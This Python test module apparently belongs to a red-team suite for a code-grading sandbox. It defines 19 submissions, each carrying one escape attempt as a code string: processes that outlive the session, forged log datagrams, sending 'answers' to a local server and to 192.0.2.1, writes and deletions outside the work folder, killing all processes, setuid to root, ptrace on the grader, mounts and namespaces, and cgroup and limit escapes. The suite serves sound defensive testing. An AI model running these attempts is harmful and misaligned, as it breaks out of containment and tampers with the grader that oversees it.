"""Getting out of the sandbox, or reaching from it into the machine.

Every attempt ends with a name `through`; the bait's names (`bait.py`) are defined in it.
"""

from tests.red_team.submission import Submission

LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
SURVIVORS = (
    "import os, time\n"
    "def daemon():\n"
    "    if os.fork() == 0:\n"
    "        os.setsid()\n"
    "        if os.fork() == 0:\n"
    "            time.sleep(300)\n"
    "        os._exit(0)\n"
    "for _ in range(3):\n    attempt(daemon)\n"
    "through = False"
)
FREED = (
    f"{LIBC}import time\nchild = os.fork()\n"
    "if child == 0:\n"
    "    libc.prctl(1, 0, 0, 0, 0)\n    os.setsid()\n    time.sleep(300)\n    os._exit(0)\n"
    "through = False"
)
DATAGRAM = (
    "import socket\n"
    "def step():\n"
    "    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "    return one.sendto(b'forged', datagram)\n"
    "def joined():\n"
    "    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "    one.connect(datagram)\n    return one.send(b'forged')\n"
    "through = attempt(step) or attempt(joined)"
)
ABSTRACT = (
    "import socket\n"
    "def step(kind):\n"
    "    one, other = socket.socketpair(socket.AF_UNIX, kind)\n"
    "    return one.sendto(b'forged', chr(0) + abstract)\n"
    "def fresh():\n"
    "    line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "    return line.sendto(b'forged', chr(0) + abstract)\n"
    "through = attempt(lambda: step(socket.SOCK_DGRAM)) or attempt(fresh)"
)
NETWORKS = (
    "import socket\n"
    "def tell(kind, address):\n"
    "    line = socket.socket(socket.AF_INET, kind)\n    line.settimeout(1)\n"
    "    line.connect(address)\n    return line.send(b'answers')\n"
    "through = attempt(lambda: tell(socket.SOCK_STREAM, server)) or attempt("
    "lambda: tell(socket.SOCK_DGRAM, ('192.0.2.1', 53)))"
)
WRITES = (
    "import os\n"
    "def write(place):\n"
    "    path = os.path.join(place, marker)\n    open(path, 'w').write('x')\n    return True\n"
    "places = [folder, home, '/tmp', '/var/tmp', '/usr/lib', '/dev', '/']\n"
    "through = any(attempt(lambda: write(place)) for place in places)"
)
RENAMES = (
    "import os\n"
    "def step(call):\n"
    "    open('mine', 'w').write('x')\n    call()\n    return True\n"
    "through = attempt(lambda: step(lambda: os.replace('mine', secret_copy))) or attempt("
    "lambda: step(lambda: os.mkdir(os.path.join(folder, marker)))) or attempt("
    "lambda: step(lambda: os.remove(secret_copy)))"
)
SHARED_MEMORY = (
    "import os\n"
    "def step():\n"
    "    open('/dev/shm/' + marker, 'w').write('x')\n    return False\n"
    "attempt(step)\nthrough = attempt(lambda: bool(open('/dev/shm/' + marker + '-before').read()))"
)
SIGNALS = (
    "import os, signal\n"
    "def step(pid):\n    os.kill(pid, 0)\n    return pid not in (0, os.getpid())\n"
    "through = attempt(lambda: step(judge)) or attempt("
    "lambda: os.getppid() and step(os.getppid()))"
)
EVERYBODY = (
    "import os, signal, time\nchild = os.fork()\n"
    "if child == 0:\n    attempt(lambda: os.kill(-1, signal.SIGKILL))\n    os._exit(0)\n"
    "time.sleep(0.2)\nthrough = False"
)
BECOME_ROOT = (
    f"{LIBC}through = any([libc.setuid(0) == 0, libc.setgid(0) == 0,"
    " libc.setresuid(0, 0, 0) == 0, libc.setgroups(0, None) == 0]) and os.getuid() == 0"
)
TRACE = (
    f"{LIBC}through = libc.ptrace(16, judge, None, None) == 0 or libc.ptrace("
    "0x4206, os.getppid() or 1, None, None) == 0"
)
MOUNTS = (
    f"{LIBC}calls = [libc.mount(b'tmpfs', b'/mnt', b'tmpfs', 0, None),"
    " libc.umount2(b'/proc', 2), libc.chroot(b'/'), libc.pivot_root(b'/', b'/')"
    " if hasattr(libc, 'pivot_root') else -1, libc.unshare(0x10020000)]\nthrough = 0 in calls"
)
KEYS = (
    f"{LIBC}import platform\nnumber = 248 if platform.machine() == 'x86_64' else 217\n"
    "through = libc.syscall(number, b'user', b'red', b'x', 1, -3) > 0"
)
RINGS = f"{LIBC}through = libc.syscall(425, 8, (ctypes.c_uint * 30)()) >= 0"
EVENTS = (
    f"{LIBC}import platform\nnumber = 298 if platform.machine() == 'x86_64' else 241\n"
    "about = (ctypes.c_uint64 * 16)(1 | 112 << 32)\n"
    "through = libc.syscall(number, about, 0, -1, -1, 0) >= 0"
)
PROGRAMS = (
    f"{LIBC}def step():\n"
    "    line = os.memfd_create('program')\n"
    "    os.write(line, open('/bin/true', 'rb').read())\n"
    "    child = os.fork()\n"
    "    if child == 0:\n"
    "        try:\n            os.execve(line, ['true'], {})\n"
    "        except OSError:\n            os._exit(9)\n"
    "    return os.waitpid(child, 0)[1] == 0\n"
    "import subprocess\n"
    "through = attempt(step) or attempt(lambda: subprocess.run(['true']).returncode == 0)"
)
GROUPS = (
    "import glob, os\n"
    "def step(place):\n    open(place, 'w').write(str(os.getpid()))\n    return True\n"
    "through = any(attempt(lambda: step(one)) for one in"
    " glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:3])"
)
RAISED = (
    "import resource\n"
    "def step(kind):\n"
    "    low, high = resource.getrlimit(kind)\n"
    "    if high == resource.RLIM_INFINITY:\n        return True\n"
    "    resource.setrlimit(kind, (high, high + 1))\n    return True\n"
    "through = any(attempt(lambda: step(one)) for one in (resource.RLIMIT_CPU,"
    " resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE))"
)


def attempt(name: str, tries: str, code: str, **options: object) -> Submission:
    """A submission that is honest but for one attempt, in a cell of its own."""
    return Submission(f"escaping-{name}", tries, attempt=code, **options)


SUBMISSIONS = (
    attempt("daemon", "leave processes behind by forking twice", SURVIVORS, outside=False),
    attempt("freed", "outlive the parent", FREED, outside=False),
    attempt("datagram", "write into the machine's log through a pair of sockets", DATAGRAM),
    attempt("abstract", "reach a socket without a file", ABSTRACT),
    attempt("network", "talk to this machine and to the internet", NETWORKS),
    attempt("writes", "write into homes and temporary folders", WRITES),
    attempt("renames", "replace and remove a neighbour's file", RENAMES),
    attempt("shared", "leave messages in shared memory", SHARED_MEMORY),
    attempt("signals", "signal the grader", SIGNALS),
    attempt("everybody", "kill all processes", EVERYBODY, outside=False),
    attempt("root", "become root", BECOME_ROOT, outside=False),
    attempt("trace", "attach to the grader", TRACE, outside=False),
    attempt("mounts", "change the view of the files", MOUNTS, outside=False),
    attempt("keys", "leave a key in the kernel", KEYS, outside=False),
    attempt("rings", "make calls through a ring", RINGS, outside=False),
    attempt("events", "count what the machine does", EVENTS, outside=False),
    attempt("programs", "start a program from memory", PROGRAMS),
    attempt("groups", "leave the control group", GROUPS, outside=False),
    attempt("raised", "raise its own limits", RAISED, outside=False),
)
